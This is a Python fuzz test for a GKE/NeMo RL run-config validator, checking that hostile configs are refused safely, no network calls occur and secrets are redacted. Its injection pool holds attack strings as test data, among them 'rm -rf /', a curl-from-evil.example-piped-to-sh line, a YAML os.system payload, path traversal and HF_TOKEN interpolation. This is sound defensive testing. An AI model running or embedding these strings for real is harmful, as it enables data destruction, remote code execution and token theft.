"""A seeded fuzz of the run conf: validation is total, and whatever it accepts plans without breaking a hard rule.

Thousands of generated confs mix wrong types, edge numbers (0, -1, 2**63, 1e308, NaN, inf, 2.0 and true for
integers), unicode, long strings, injection strings in every string field and in ``extra_overrides`` (shell
metacharacters, ``${oc.env:HF_TOKEN}``, YAML/JSON breakers, newlines, ``../``) and inconsistent NeMo RL arithmetic.
For each, :func:`check_conf` must return (never raise, never fall back on ``preflight.rule-error``), make no network
call, and either refuse with findings that are safe to show, or accept a conf whose plan keeps every hard rule:
resource names match their API's grammar whole, integers are ints, checkpoint paths end in ``step_<int>``, waits are
finite and bounded, manifests parse and validate, and the entrypoint is what the recipe renders.
"""

from __future__ import annotations

import functools
import itertools
import json
import math
import random
import re
import shlex
import socket
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import kubernetes_validate.utils as kv_utils
import pytest
import yaml

from nemo_rl_gke.kube.validation import validate_manifest
from nemo_rl_gke.plan import manifests as manifests_module
from nemo_rl_gke.plan.build import build_plan
from nemo_rl_gke.plan.ray_job import lineage_guard
from nemo_rl_gke.preflight.offline import check_conf
from nemo_rl_gke.run import recipes
from nemo_rl_gke.run.conf_schema import POLL_MIN_S, param_schema, spec_fields
from nemo_rl_gke.run.deployment import Deployment
from nemo_rl_gke.run.findings import MAX_SHOWN, Finding
from nemo_rl_gke.run.recipes import load_recipe
from nemo_rl_gke.run.spec import RunSpec
from nemo_rl_gke.run.steps import final_step
from nemo_rl_gke.run.topology import STAGE_TIMEOUT_PARAM

SEED = 20_261_201
CONFS = 2_000
# A canary token: if any finding or log of a refused conf shows it, redaction failed.
CANARY = "hf_" + "Zq7Xw3Kp9Lm2Nb5Vc8Rt1Ys4Ud6Fg0Hj"
DEPLOYMENT = Deployment(
    hf_conn_ids=("huggingface_default", "hf_team"),
    wandb_conn_ids=("wandb_default",),
    nccl_installer_allowlist=("https://raw.githubusercontent.com/GoogleCloudPlatform/container-engine-accelerators/",),
)
# Longest wait any stage allows (14 days, the job) plus a generous deferral backstop must fit a timedelta.
BACKSTOP_S = 3600

# --- value pools ------------------------------------------------------------------------------------------------
EDGE_NUMBERS: list[Any] = [
    0,
    -1,
    1,
    2**31,
    2**63,
    -(2**63),
    10**30,
    10**400,
    1e308,
    -1e308,
    1e14,
    float("nan"),
    float("inf"),
    float("-inf"),
    2.0,
    10.0,
    1.5,
    0.0,
    -0.0,
    1e-300,
    True,
    False,
]
EDGE_OTHER: list[Any] = [None, "", " ", "2", "1e+20", "0x10", "NaN", [], {}, [1, 2], {"a": 1}, [[[[[]]]]], ["x"] * 9]
UNICODE = ["é" * 64, "名前", "🚀rocket", "\u202eevil", "\ud800", "a\u200bb", "\u00a0", "Ⅻ", "ｆｕｌｌ"]
INJECTIONS = [
    "$(reboot)",
    "`id`",
    "; rm -rf /",
    "a && curl evil.example | sh",
    "${oc.env:HF_TOKEN}",
    "${oc.env:WANDB_API_KEY}",
    "\\${oc.env:HF_TOKEN}",
    "'\"",
    "a: b",
    "- x",
    "{x}: [y]",
    "# comment",
    "a=b",
    "foo,bar",
    "trailing\\",
    "../../etc/passwd",
    "/data/../../etc",
    "%2e%2e/",
    "x\n- evil: true",
    "name\n",
    "name\r",
    "\x00",
    "{{ spec.project }}",
    "{% raw %}",
    "!!python/object/apply:os.system ['id']",
    "<script>alert(1)</script>",
    "null",
    "true",
    "1e3",
    "~",
    "+x=1",
    "&a [*a]",
    CANARY,
]
LONG = ["a" * 64, "a" * 300, "x" * 5_000, ("ab-" * 40)[:-1]]
NAMEISH = ["nemo", "gpu-pool", "a", "a-", "-a", "A", "a_b", "a.b", "9a", "ab" * 20, "ab" * 32]
OVERRIDE_KEYS = [
    "policy.optimizer.kwargs.lr",
    "policy.train_global_batch_size",
    "policy.train_micro_batch_size",
    "policy.logprob_batch_size",
    "policy.dtensor_cfg.context_parallel_size",
    "policy.generation.vllm_cfg.pipeline_parallel_size",
    "grpo.val_period",
    "logger.wandb.project",
    "checkpointing.checkpoint_dir",
    "cluster.num_nodes",
    "cluster",
    "checkpointing",
    "new.key",
    "data.dataset_name",
]
OVERRIDE_VALUES: list[str] = [
    "1e-6",
    "0",
    "-1",
    "7",
    "64",
    "500",
    "512",
    "1024",
    "65537",
    "1000000000039",
    str(2**63),
    "1e+20",
    "2.5",
    "abc",
    "null",
    "true",
    "[1,2]",
    "{a: 1}",
    "&a [*a, *a]",
    *INJECTIONS[:12],
]
SECRET_KEYS = ["hf_token", "wandb_key", "hf", "pwd", "auth", "api-key", "Cookie", "session_id", "bearer", "x_secret"]

# --- valid alternatives, so that a good share of the confs is accepted and planned ------------------------------
# Parameters that reach the NeMo RL command line: each distinct combination costs a Hydra/OmegaConf apply (tens of
# milliseconds), so near-valid confs draw them from small pools; the arithmetic class below varies them widely.
TRAINING_POOLS: dict[str, list[Any]] = {
    "max_steps": [1, 10, 1_000_000],
    "num_prompts_per_step": [8, 16, 64],
    "num_generations_per_prompt": [8, 32],
    "dtensor_tp": [1, 4, 8],
    "vllm_tp": [1, 4, 8],
    "generation_nodes": [0, 1],
    "generation_gpus_per_node": [8],
    "vllm_gpu_memory_utilization": [0.5, 0.9, 1],
    "worker_replicas": [1, 2, 3],
    "checkpoint_dir": ["/data/ckpt", "/data/a/b.c_d-e", "/data/" + "x" * 200],
    "wandb_run_name": ["run", "名前", "$(reboot)", "x'y\"z", "${oc.env:HF_TOKEN}"],
    "wandb_project": ["", "proj", "${oc.env:HF_TOKEN}", "a b c"],
    "extra_overrides": [[], ["policy.optimizer.kwargs.lr=1e-6"], ["grpo.val_period=5"]],
}
ZONES = [("us-central1", "us-central1-b"), ("europe-west4", "europe-west4-a"), ("us-east5", "us-east5-c")]


def _name(rng: random.Random, longest: int = 40) -> str:
    first = rng.choice("abcdefghijklmnopqrstuvwxyz")
    middle = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789-") for _ in range(rng.randint(0, longest - 2)))
    return first + middle + rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")


def _valid_value(rng: random.Random, key: str) -> Any:
    """A value of the right type and usually within range (names may still be too long for derived names)."""
    schema = param_schema(key)
    if "enum" in schema:
        return rng.choice(schema["enum"])
    if key in TRAINING_POOLS:
        return rng.choice(TRAINING_POOLS[key])
    special: dict[str, Callable[[], Any]] = {
        "project": lambda: rng.choice(["nemo-rl-demo", "my-proj-123", "abcdef", "a" + "b" * 29]),
        "machine_type": lambda: rng.choice(["", "a4-highgpu-8g", "a3-ultragpu-8g"]),
        "system_machine_type": lambda: rng.choice(["n2-highmem-80", "e2-standard-4", "n2-custom-8-16384"]),
        "image_tag": lambda: rng.choice(["", "v0.5.0", "v0.5.0.nemotron", "v0.7.0", "latest", "v0.5.0-rc1"]),
        "nccl_installer_source": lambda: rng.choice(
            [
                "bundled",
                "https://raw.githubusercontent.com/GoogleCloudPlatform/container-engine-accelerators/master/"
                "gpudirect-rdma/nccl-rdma-installer.yaml",
                "manifests/nccl-rdma-installer.yaml.j2",
            ]
        ),
        "hf_conn_id": lambda: rng.choice(["", "huggingface_default", "hf_team"]),
        "wandb_conn_id": lambda: rng.choice(["", "wandb_default"]),
        "gvnic_subnet_cidr": lambda: rng.choice(["192.168.0.0/24", "10.10.0.0/24", "172.16.5.0/24"]),
        "firewall_source_range": lambda: rng.choice(["192.168.0.0/16", "10.0.0.0/8"]),
        "peering_range_address": lambda: rng.choice(["", "10.64.0.0", "172.20.0.0"]),
        "rdma_subnet_cidrs": lambda: [f"192.168.{n + rng.choice([1, 20])}.0/24" for n in range(8)],
        "export_bucket": lambda: rng.choice(["", "my-checkpoints", "a.b-c_d"]),
    }
    if key in special:
        return special[key]()
    kind = _kind(schema)
    if kind == "integer":
        low, high = schema.get("minimum", 0), schema.get("maximum", 10_000)
        return rng.choice([low, high, rng.randint(low, min(high, low + 64))])
    if kind == "number":
        low, high = schema.get("minimum", schema.get("exclusiveMinimum", 0)), schema.get("maximum", 1000)
        return rng.choice([float(high), rng.uniform(max(low, 1e-6), high), int(high)])
    if kind == "boolean":
        return rng.random() < 0.5
    if kind == "string":
        return rng.choice(NAME_POOL[key])
    return None


def _hostile_value(rng: random.Random, key: str) -> Any:
    """Anything: a wrong type, an edge number, unicode, a long string, or an injection around a plausible value."""
    roll = rng.random()
    if roll < 0.3:
        return rng.choice(EDGE_NUMBERS)
    if roll < 0.4:
        return rng.choice(EDGE_OTHER)
    if roll < 0.5:
        return rng.choice(UNICODE + LONG)
    if roll < 0.6:
        return rng.choice(NAMEISH)
    injection = rng.choice(INJECTIONS)
    base = _valid_value(rng, key)
    if isinstance(base, str):
        return rng.choice([injection, base + injection, injection + base, base + "\n"])
    if isinstance(base, list):
        return [*base, injection]
    return injection


def _override(rng: random.Random) -> str:
    if rng.random() < 0.2:
        return rng.choice(INJECTIONS + LONG[:2])
    op = rng.choice(["", "", "+", "++", "~"])
    key = rng.choice(OVERRIDE_KEYS)
    return f"{op}{key}" if op == "~" else f"{op}{key}={rng.choice(OVERRIDE_VALUES)}"


BASES: list[dict[str, Any]] = [
    {},
    json.loads((recipes.RECIPES_DIR.parent / "conf" / "local.json").read_text()),
    {"recipe": "qwen2.5-7b-gsm8k-v0.7.0", "dtensor_tp": 4, "vllm_tp": 4},
]
KEYS = [f.name for f in spec_fields()]
# Valid-looking names per parameter, a few per length class (1 to 63): names reach every manifest's labels, and each
# distinct object costs a schema validation, so near-valid confs draw from these.
_NAMES = random.Random(SEED)
NAME_POOL = {key: ["a", *(_name(_NAMES, n) for n in (8, 8, 20, 40, 40, 63))] for key in KEYS}


def _kind(schema: dict[str, Any]) -> str:
    """The JSON type of a parameter; an optional one is typed ["null", T]."""
    kinds = schema["type"] if isinstance(schema["type"], list) else [schema["type"]]
    return next(k for k in kinds if k != "null")


TEXT_KEYS = {key for key in KEYS if _kind(param_schema(key)) in ("string", "array")}


def _injected_keys(conf: Any) -> set[str]:
    """The string and list parameters of ``conf`` that carry an injection string."""
    if not isinstance(conf, dict):
        return set()
    found = set()
    for key in TEXT_KEYS & {k for k in conf if isinstance(k, str)}:
        values = conf[key] if isinstance(conf[key], list) else [conf[key]]
        if any(isinstance(v, str) and any(i in v for i in INJECTIONS) for v in values):
            found.add(key)
    return found


def _arithmetic(rng: random.Random) -> dict[str, Any]:
    replicas = rng.randint(1, 8)
    conf: dict[str, Any] = {
        "worker_replicas": replicas,
        "gpu_pool_max_nodes": rng.choice([replicas, rng.randint(1, 8)]),
        "colocated": rng.random() < 0.4,
        "generation_nodes": rng.randint(0, 4),
        "generation_gpus_per_node": rng.choice([1, 4, 8]),
        "dtensor_tp": rng.choice([1, 2, 3, 4, 8, 16, 512]),
        "vllm_tp": rng.choice([1, 2, 4, 7, 8, 16]),
        "num_prompts_per_step": rng.choice([1, 3, 12, 16, 64, 65_536]),
        "num_generations_per_prompt": rng.choice([1, 4, 8, 32, 1024]),
    }
    if rng.random() < 0.6:
        key = rng.choice(OVERRIDE_KEYS[1:6])
        conf["extra_overrides"] = [f"{key}={rng.choice(OVERRIDE_VALUES[:17])}"]
    return conf


def generate(rng: random.Random) -> Any:
    """One conf: mostly a base with mutations; sometimes something that is not a conf at all."""
    roll = rng.random()
    if roll < 0.02:
        return rng.choice([None, [], "conf", 3, [{"mode": "plan"}], {1: "x", None: 2}, {("a",): 1}])
    conf = dict(rng.choice(BASES))
    # Shares: each arithmetic or override conf costs a Hydra/OmegaConf apply of its own (~15 ms), the rest ~2 ms.
    if roll < 0.18:  # near-valid: what is accepted and planned
        for key in rng.sample(KEYS, rng.randint(1, 3)):
            conf[key] = _valid_value(rng, key)
    elif roll < 0.85:  # hostile values in one to four fields
        for key in rng.sample(KEYS, rng.randint(1, 4)):
            conf[key] = _hostile_value(rng, key)
    elif roll < 0.90:  # inconsistent NeMo RL arithmetic
        conf.update(_arithmetic(rng))
    elif roll < 0.95:  # Hydra overrides
        conf["extra_overrides"] = [_override(rng) for _ in range(rng.randint(1, 4))]
    else:  # unknown and secret-looking keys
        conf[rng.choice(SECRET_KEYS)] = rng.choice([CANARY, "p4ss", {"token": CANARY}, "x" * 500])
        conf[rng.choice(["zonee", "bogus", "ray_dashboard_url", "x" * 300])] = rng.choice(["http://127.0.0.1:1", 2])
    return conf


# --- invariants of an accepted conf --------------------------------------------------------------------------------
RFC1035 = re.compile(r"[a-z]([-a-z0-9]{0,61}[a-z0-9])?")
GKE_NAME = re.compile(r"[a-z]([-a-z0-9]{0,38}[a-z0-9])?")
PROJECT_ID = re.compile(r"[a-z][a-z0-9-]{4,28}[a-z0-9]")
REGION = re.compile(r"[a-z]+-[a-z]+[0-9]+")
ZONE = re.compile(r"[a-z]+-[a-z]+[0-9]+-[a-z]")
LABEL = re.compile(r"[a-z]([-_a-z0-9]{0,62})?")
LABEL_VALUE = re.compile(r"[-_a-z0-9]{0,63}")
LUSTRE_FS = re.compile(r"[A-Za-z0-9]{1,8}")
PATH_GRAMMAR = {
    "projects": PROJECT_ID,
    "regions": REGION,
    "networks": RFC1035,
    "subnetworks": RFC1035,
    "firewalls": RFC1035,
    "addresses": RFC1035,
    "clusters": GKE_NAME,
    "nodePools": GKE_NAME,
    "instances": RFC1035,
}


def _leaves(value: Any, path: str = "") -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _leaves(item, f"{path}.{key}")
    elif isinstance(value, list):
        for n, item in enumerate(value):
            yield from _leaves(item, f"{path}[{n}]")
    else:
        yield path, value


def _check_names(planned: Any) -> list[str]:
    """The names in one planned request: its path's segments and query, and its body's names, labels and numbers."""
    request = planned.request
    return _path_problems(request.path) + _body_problems(request)


def _path_problems(path: str) -> list[str]:
    problems = []
    parts = urlsplit(path)
    segments = parts.path.strip("/").split("/")
    for name, value in itertools.pairwise(segments):
        grammar = PATH_GRAMMAR.get(name)
        if name == "locations" and not (REGION.fullmatch(value) or ZONE.fullmatch(value)):
            problems.append(f"location {value!r} in {path}")
        if grammar is not None and value != "<PROJECT_NUMBER>" and not grammar.fullmatch(value):
            problems.append(f"{name} name {value!r} in {path}")
    for key, values in parse_qs(parts.query).items():
        if key == "instanceId" and not RFC1035.fullmatch(values[0]):
            problems.append(f"Lustre instance id {values[0]!r}")
    return problems


def _body_problems(request: Any) -> list[str]:
    problems = []
    for path, value in _leaves(request.body or {}):
        field = path.rsplit(".", 1)[-1]
        if field == "name" and request.service == "compute" and not RFC1035.fullmatch(str(value)):
            problems.append(f"compute name {value!r}")
        if field == "filesystem" and not LUSTRE_FS.fullmatch(str(value)):
            problems.append(f"Lustre filesystem {value!r}")
        if isinstance(value, float):
            problems.append(f"float {value!r} at {path} of {request.method}")
        if ".resourceLabels." in path + "." or ".labels." in path + ".":
            label = path.rsplit(".", 1)[-1]
            if not LABEL.fullmatch(label) or not LABEL_VALUE.fullmatch(str(value)):
                problems.append(f"label {label}={value!r}")
    return problems


@functools.lru_cache(maxsize=4096)
def _manifest_problems(obj_json: str) -> tuple[str, ...]:
    """Schema problems of one object, and whether it survives YAML; each distinct object is checked once, since
    identical objects recur across confs and validating one costs milliseconds."""
    obj = json.loads(obj_json)
    problems = list(validate_manifest(obj))
    problems += [f"float at {path}" for path, value in _leaves(obj) if isinstance(value, float)]
    text = yaml.dump(obj, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper))
    if yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader)) != obj:
        problems.append("does not round-trip through YAML")
    return tuple(problems)


def plan_problems(spec: RunSpec) -> list[str]:
    """Every hard rule the plan of an accepted spec breaks (empty when it keeps them all)."""
    problems: list[str] = []
    plan = build_plan(spec, dag_id="fuzz", run_id="manual__2026-12-01T00:00:00+00:00", deployment=DEPLOYMENT)
    for planned in plan.requests:
        problems += _check_names(planned)
    recipe = load_recipe(spec.recipe)
    for manifest in plan.manifests:
        found = _manifest_problems(json.dumps(manifest.obj, sort_keys=True))
        problems += [f"manifest {manifest.kind} {manifest.name}: {p}" for p in found]
    for label, value in plan.owner.labels.items():
        if not LABEL.fullmatch(label) or not LABEL_VALUE.fullmatch(value):
            problems.append(f"label {label}={value!r}")
    problems += _step_and_timing_problems(spec)
    poll = spec.poll_interval_s
    if not (isinstance(poll, float) and math.isfinite(poll) and POLL_MIN_S <= poll <= 600):
        problems.append(f"poll interval {poll!r}")
    # The job is the lineage guard (checkpoint_dir shell-quoted in it), then exactly what the recipe renders.
    guard = lineage_guard(spec, "<lineage step>" if spec.resumes else None)
    if plan.job.entrypoint != guard + "\n" + recipe.command(spec):
        problems.append("the job's entrypoint is not the lineage guard and what the recipe renders")
    if not _quoted_for_bash(plan.job.shell_entrypoint, plan.job.entrypoint):
        problems.append("the entrypoint escapes its bash -c quoting")
    if {s.conn_id for s in plan.job.secrets} - {*DEPLOYMENT.hf_conn_ids, *DEPLOYMENT.wandb_conn_ids}:
        problems.append(f"secret from a connection the deployment does not allow: {plan.job.secrets}")
    if RunSpec.from_conf(spec.to_conf()) != spec:
        problems.append("the spec does not survive its XCom round trip")
    json.dumps(plan.to_dict(), allow_nan=False)
    return problems


def _step_and_timing_problems(spec: RunSpec) -> list[str]:
    """The final step, where its checkpoint lives and is exported, and every stage's timeout."""
    problems = []
    step = final_step(spec, load_recipe(spec.recipe))
    if type(step) is not int:
        problems.append(f"final step {step!r} is not an int")
    if not re.fullmatch(r"/[A-Za-z0-9_./-]*/step_[0-9]+", spec.checkpoint_lustre_path(step)):
        problems.append(f"checkpoint path {spec.checkpoint_lustre_path(step)!r}")
    if not re.fullmatch(
        r"gs://[a-z0-9._-]+/fuzz/r1(/[A-Za-z0-9_.-]+)*/step_[0-9]+/", spec.export_uri("fuzz", "r1", step)
    ) or not spec.export_uri("fuzz", "r1", step).endswith(spec.checkpoint_lustre_path(step) + "/"):
        problems.append(f"export uri {spec.export_uri('fuzz', 'r1', step)!r}")
    for stage, param in STAGE_TIMEOUT_PARAM.items():
        timeout = getattr(spec, param)
        if type(timeout) is not int or not 1 <= timeout <= param_schema(param)["maximum"]:
            problems.append(f"{stage} timeout {timeout!r}")
        timedelta(seconds=timeout + BACKSTOP_S)  # would raise OverflowError at deferral
    return problems


@functools.lru_cache(maxsize=1024)
def _quoted_for_bash(command: str, script: str) -> bool:
    return shlex.split(command) == ["bash", "-c", script]


def finding_problems(finding: Finding, conf: Any) -> list[str]:
    """What a finding of a refused conf must never do: echo a secret or a long value, or be unshowable."""
    problems = []
    text = str(finding)
    record = json.dumps(finding.to_dict(), allow_nan=False, ensure_ascii=False)
    if not (finding.param and finding.rule and finding.fix):
        problems.append(f"finding without param, rule or fix: {finding!r}")
    value = finding.value
    if len(value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)) > MAX_SHOWN:
        problems.append(f"value not truncated: {record[:200]}")
    if CANARY in text or CANARY in record:
        problems.append(f"secret echoed: {finding.rule_id}")
    if isinstance(conf, dict):
        for value in conf.values():
            for item in value if isinstance(value, list) else [value]:
                if isinstance(item, str) and len(item) > MAX_SHOWN and item[:MAX_SHOWN] in text:
                    problems.append(f"long value echoed by {finding.rule_id}: {text[:200]}")
    return problems


# --- the run ------------------------------------------------------------------------------------------------------
@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every socket connect and name lookup fails the test: recorded (in case code swallows it), then refused."""
    attempts: list[str] = []

    def refuse(what: str) -> Callable[..., Any]:
        def call(*args: Any, **kwargs: Any) -> Any:
            attempts.append(f"{what}{args[1:] if what.startswith('socket.') else args}")
            raise OSError(f"the fuzz suite makes no network calls ({what})")

        return call

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    return attempts


@pytest.fixture
def memoized_pure_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Memoize two pure functions that the code under test recomputes on every call: kubernetes_validate re-reads
    its JSON schema files, and the manifest templates' YAML is parsed again for every plan. Same inputs, same
    results; a fraction of the time."""
    monkeypatch.setattr(kv_utils, "schema_contents", functools.lru_cache(maxsize=64)(kv_utils.schema_contents))
    parse = manifests_module._parse_documents

    @functools.lru_cache(maxsize=512)
    def parsed(text: str, source: str) -> str:
        return json.dumps(parse(text, source))

    def parse_cached(text: str, source: str, **kwargs: Any) -> list[dict[str, Any]]:
        # Only the trusted template path is memoized; a fresh copy each time, as callers may change the objects.
        return parse(text, source, **kwargs) if kwargs else json.loads(parsed(text, source))

    monkeypatch.setattr(manifests_module, "_parse_documents", parse_cached)


def test_the_network_guard_catches_a_connect(no_network: list[str]) -> None:
    # The guard itself must be able to fail: a connect is recorded even when the caller swallows the error.
    with pytest.raises(OSError, match="no network calls"):
        socket.create_connection(("127.0.0.1", 9))
    assert no_network == ["create_connection(('127.0.0.1', 9),)"]


def test_fuzzed_confs_are_refused_safely_or_plan_within_every_hard_rule(
    no_network: list[str], memoized_pure_parsing: None, capsys: pytest.CaptureFixture[str]
) -> None:
    rng = random.Random(SEED)
    started, cpu_started = time.perf_counter(), time.process_time()
    counts: Counter[str] = Counter()
    rule_ids: Counter[str] = Counter()
    failures: list[str] = []
    injected: set[str] = set()
    for n in range(CONFS):
        conf = generate(rng)
        injected |= _injected_keys(conf)
        try:
            spec, findings = check_conf(conf, DEPLOYMENT)
        except Exception:
            counts["crashes"] += 1
            failures.append(f"conf {n}: check_conf raised\n{traceback.format_exc(limit=3)}")
            continue
        rule_ids.update(f.rule_id for f in findings)
        if spec is None:
            counts["refused"] += 1
            if not findings:
                failures.append(f"conf {n}: refused without a finding")
            failures += [f"conf {n}: {p}" for f in findings for p in finding_problems(f, conf)]
            continue
        counts["accepted"] += 1
        try:
            failures += [f"conf {n} ({shlex.quote(json.dumps(conf)[:300])}): {p}" for p in plan_problems(spec)]
        except Exception:
            counts["plan crashes"] += 1
            failures.append(f"conf {n}: the plan of an accepted conf raised\n{traceback.format_exc(limit=4)}")
    elapsed, cpu = time.perf_counter() - started, time.process_time() - cpu_started
    with capsys.disabled():
        print(
            f"\nconf fuzz (seed {SEED}): {CONFS} confs, {counts['refused']} refused, {counts['accepted']} accepted, "
            f"{counts['crashes']} crashes, {counts['plan crashes']} plan crashes, "
            f"{rule_ids['preflight.rule-error']} rule errors, {len(no_network)} network calls, "
            f"{elapsed:.1f}s ({cpu:.1f}s CPU)"
        )
    assert not failures, f"{len(failures)} failures; the first ones:\n" + "\n".join(failures[:10])
    assert no_network == []
    assert counts["crashes"] == counts["plan crashes"] == rule_ids["preflight.rule-error"] == 0
    # Not vacuous: both outcomes are frequent (each bounded param, max_recoveries among them, refuses some), and the
    # hostile classes were actually refused for their reasons.
    assert counts["accepted"] >= CONFS // 12 and counts["refused"] >= CONFS // 2
    assert injected == TEXT_KEYS, f"no injection string reached {sorted(TEXT_KEYS - injected)}"
    for rule_id in (
        "conf.type",
        "conf.printable",
        "conf.maximum",
        "conf.pattern",
        "conf.maxLength",
        "conf.secret-in-conf",
        "conf.unknown-key",
        "conf.not-an-object",
        "conf.deployment-setting",
        "nemo.config-integers",
        "nemo.batch-multiple",
        "nemo.world-size",
        "nemo.override-keys",
        "name.compute",
        "kube.nccl-installer-source",
    ):
        assert rule_ids[rule_id] > 0, f"the fuzz never tripped {rule_id}"
